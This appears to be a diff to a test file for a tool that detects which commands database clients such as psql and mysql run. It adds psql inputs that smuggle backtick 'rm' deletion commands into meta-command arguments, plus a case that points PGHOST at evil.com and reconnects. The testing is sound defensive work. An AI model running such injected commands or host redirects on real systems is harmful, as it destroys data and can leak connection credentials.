@@ -26,6 +26,10 @@ describe('what the clients run and open', () => {
     ["psql -qc '\\! rm x'", ['rm x']],
     ["psql -c \"\\copy t from program 'gzip -dc t.gz'\"", ['gzip -dc t.gz']],
     ["psql -c '\\o |tee log'", ['tee log']],
+    // (Found in review: psql runs an unquoted backtick command in any meta-command's argument.)
+    ["psql -c '\\c db u `rm x`'", ['rm x']],
+    ["psql -c '\\echo `rm y` hi'", ['rm y']],
+    ["psql -c '\\set v `rm z`'", ['rm z']],
     ["mysql -Be 'system rm x'", ['rm x']],
     ["mysql --pager='less -S'", ['less -S']],
   ])('%s runs %j', (line, expected) => {
@@ -60,6 +64,8 @@ describe('what the clients run and open', () => {
     'sqlite3 a.db "$Q"',
     "psql -c '\\e'",
     "psql -c '\\o :file'",
+    "psql -c '\\setenv PGHOST evil.com' -c '\\c -reuse-previous=off db u'",
+    "psql -c '\\setenv PAGER less'",
     'psql "$ARGS"',
     "mysql -e 'edit'",
     'mysql --plugin-dir=/tmp/p',
